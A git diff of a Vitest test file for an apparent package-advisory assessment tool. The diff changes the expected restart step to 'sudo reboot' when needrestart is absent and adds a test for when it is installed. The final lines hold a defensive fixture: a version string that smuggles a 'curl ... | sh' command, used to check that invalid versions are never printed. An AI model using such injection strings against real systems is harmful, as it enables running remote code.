@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { assess } from '../../../../main/core/assess/assess'
-import { checkExitCode } from '../../../../main/core/assess/exit-code'
+import { exitCodeOfAssessment as checkExitCode } from '../../../support/check'
 import type { AssessInput, AvailableVersion } from '../../../../main/core/assess/types'
 import { usedSources } from '../../../../main/core/system/local-system'
 import { parseDpkgStatus } from '../../../../main/core/system/dpkg-status'
@@ -216,7 +216,24 @@ describe('assess', () => {
       expect(steps[1]?.command).toBe(
         'sudo apt install --only-upgrade libssl3=3.0.2-0ubuntu1.7 libssl3:i386=3.0.2-0ubuntu1.7 openssl=3.0.2-0ubuntu1.7',
       )
-      expect(steps[2]?.command).toBe('sudo needrestart -r a')
+      // needrestart is not installed on this machine: the plain alternative, never a command that is not there.
+      expect(steps[2]?.command).toBe('sudo reboot')
+    })
+    it('names needrestart for the service restarts only when it is installed', () => {
+      const sys = jammySystem()
+      const withNeedrestart = {
+        ...sys,
+        packages: [
+          ...sys.packages,
+          {
+            ...(sys.packages[0] as (typeof sys.packages)[number]),
+            package: 'needrestart',
+            source: 'needrestart',
+          },
+        ],
+      }
+      const a = assess(input(withNeedrestart, { advisories: [fix], available }))
+      expect(a.advisories[0]?.steps[2]?.command).toBe('sudo needrestart -r a')
     })
     it('never prints a version that is not a Debian version', () => {
       const evil = [av({ package: 'openssl', version: '3.0.2-0ubuntu1.8;curl${IFS}x|sh' })]
